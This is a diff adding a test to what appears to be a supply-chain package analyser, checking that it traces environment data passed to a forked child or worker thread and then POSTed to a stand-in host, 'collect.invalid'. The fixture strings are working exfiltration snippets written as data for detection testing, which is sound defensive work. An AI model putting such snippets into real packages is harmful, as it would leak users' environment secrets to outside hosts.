@@ -40,4 +40,34 @@ describe('events of the package itself', () => {
       [['environment', 'network', 'collect.invalid']],
     );
   });
+
+  it('between a program and what it has started: by messages, and by what a worker is given', () => {
+    const facts = (main: string, other: string): readonly string[] =>
+      analysePackage(packageOf({ 'index.js': main, 'w.js': other })).flows.map(
+        ({ source, sink }) => `${source}>${sink}`,
+      );
+    const send = (what: string): string =>
+      `fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(${what}) })`;
+    assert.deepEqual(
+      facts(
+        `const c = require('child_process').fork(__dirname + '/w.js'); c.send({ e: process.env });`,
+        `process.on('message', ({ e }) => ${send('e')});`,
+      ),
+      ['environment>network'],
+    );
+    assert.deepEqual(
+      facts(
+        `const { Worker } = require('worker_threads'); new Worker(__dirname + '/w.js', { workerData: { e: { ...process.env } } });`,
+        `const { workerData } = require('worker_threads'); ${send('workerData.e')};`,
+      ),
+      ['environment>network'],
+    );
+    assert.deepEqual(
+      facts(
+        `const c = require('child_process').fork(__dirname + '/w.js'); c.send({ size: 3 });`,
+        `process.on('message', ({ size }) => ${send('size')});`,
+      ),
+      [],
+    );
+  });
 });
